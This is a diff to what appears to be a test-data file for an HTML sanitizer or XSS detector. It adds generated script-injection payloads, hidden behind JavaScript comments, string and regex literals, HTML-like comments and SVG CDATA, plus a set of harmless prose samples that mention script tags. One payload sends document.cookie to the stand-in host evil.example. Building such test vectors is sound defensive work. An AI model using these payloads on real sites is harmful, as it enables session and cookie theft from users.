@@ -127,7 +127,26 @@ STRIPPED = (
     + [f'<a href="java{t}script:alert(1)">x</a>' for t in FILLERS]
 )
 
+# A bare <script> runs its content, whatever surrounds it: prose hidden
+# where JavaScript skips it (a comment, a string, a template or regular
+# expression literal, an HTML-like comment, an SVG script's entities and
+# XML comments) leaves the code valid; so does a line break between words.
+SCRIPT_CODE = ["alert(1)", "location=name", "fetch('//evil.example/'+document.cookie)",
+               "eval(atob(name))"]
+SCRIPT_HIDES = ["{c} // we need the sanitizer", "/* we need the sanitizer */ {c}",
+                "'we need the sanitizer'; {c}", "`we need the sanitizer`; {c}",
+                "x = /we need the sanitizer/; {c}", "<!-- we need the sanitizer\n{c}",
+                "{c}\n--> we need the sanitizer", "if (1) /we need/.test({c})",
+                "we\nneed\n{c}", "`we ${{{c}}} need`"]
+SCRIPT_SVG = ["<svg><script>&#39;we need&#39;;{c}</script>",
+              "<svg><script><!-- we\nneed -->{c}</script>",
+              "<svg><script><![CDATA[{c}]]></script>"]
+SCRIPT_RUNS = ([f"<script>{h.format(c=c)}" for h, c in itertools.product(SCRIPT_HIDES, SCRIPT_CODE)]
+               + [f"<SCRIPT>\n{c}\n" for c in SCRIPT_CODE]
+               + [f.format(c=c) for f, c in itertools.product(SCRIPT_SVG, SCRIPT_CODE)])
+
 XSS_CLASSES = {
+    "script-runs": SCRIPT_RUNS,
     "stripped-markup": STRIPPED,
     "namespaced": NAMESPACED,
     "css": CSS,
@@ -297,7 +316,18 @@ TEXT_MARKUP = ["H<sub>2</sub>O boils at 100 degrees", "x<sup>2</sup> + y<sup>2</
                "Use Vec<String>s and Option<T>s", "the <b>on</b>line=yes form",
                "un<i>believ</i>able", "CO<sub>2</sub> levels on<b>ly</b> rose"]
 
-BENIGN_CLASSES = {"jars-in-text": JARS_IN_TEXT, "text-markup": TEXT_MARKUP, "markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
+# <script> named in prose, a usage line or a changelog: what follows it is
+# no JavaScript (two words side by side on one line, a quote a line break
+# cuts), and a browser runs no script it cannot parse.
+SCRIPT_PROSE = [f"{lead} <script> {tail}" for lead, tail in itertools.product(
+    ["SVG files can carry", "Never echo user input inside", "Our CSP blocks inline",
+     "Usage: npm run"],
+    ["elements; we need the sanitizer first.", "tags unless they carry a nonce",
+     "[-- <args>]\n\n  npm run test -- --coverage",
+     "blocks, see the docs for details"])]
+
+BENIGN_CLASSES = {"script-in-prose": SCRIPT_PROSE,
+                  "jars-in-text": JARS_IN_TEXT, "text-markup": TEXT_MARKUP, "markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
                   "template-text": TEMPLATE_TEXT, "sheets": SHEETS,
                   "cut-short": CUT_SHORT, "types": TYPES, "placeholders": PLACEHOLDERS,
                   "code": CODE, "urls": URLS}
